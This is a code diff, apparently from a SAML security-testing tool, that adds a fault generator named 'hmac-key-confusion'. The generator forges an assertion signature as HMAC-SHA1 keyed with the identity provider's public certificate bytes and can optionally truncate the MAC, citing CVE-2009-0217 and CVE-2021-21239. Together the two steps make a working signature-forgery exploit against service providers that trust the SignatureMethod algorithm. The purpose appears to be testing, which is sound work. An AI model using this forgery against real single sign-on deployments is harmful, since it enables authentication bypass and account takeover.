@@ -51,3 +51,34 @@ def _transforms(mode: str) -> Fault:
             ts.remove(ts[0])
 
     return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+HMAC_SHA1 = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
+
+
+@register_factory("hmac-key-confusion",
+                  "The Assertion's signature re-made as HMAC-SHA1 keyed with the IdP certificate's DER bytes (public, "
+                  "so anyone can): an SP that lets SignatureMethod pick the algorithm and feeds it its IdP 'key' "
+                  "verifies it; bits>0 adds HMACOutputLength (CVE-2009-0217 truncation)",
+                  ("ALG-05", "CVE-2009-0217", "CVE-2021-21239", "pysaml2 signed-assertion-with-hmac fixture"), bits=0)
+def _hmac_confusion(bits: int) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        import base64
+        import hashlib
+        import hmac
+
+        sig = _asig(root)
+        si = sig.find(q(DS, "SignedInfo"))
+        sm = si.find(q(DS, "SignatureMethod"))
+        sm.set("Algorithm", HMAC_SHA1)
+        for c in list(sm):
+            sm.remove(c)
+        if int(bits):
+            etree.SubElement(sm, q(DS, "HMACOutputLength")).text = str(int(bits))
+        key = base64.b64decode(ctx.idp.key.cert_b64)
+        mac = hmac.new(key, etree.tostring(si, method="c14n", exclusive=True), hashlib.sha1).digest()
+        if int(bits):
+            mac = mac[: max(1, int(bits) // 8)]
+        sig.find(q(DS, "SignatureValue")).text = base64.b64encode(mac).decode()
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
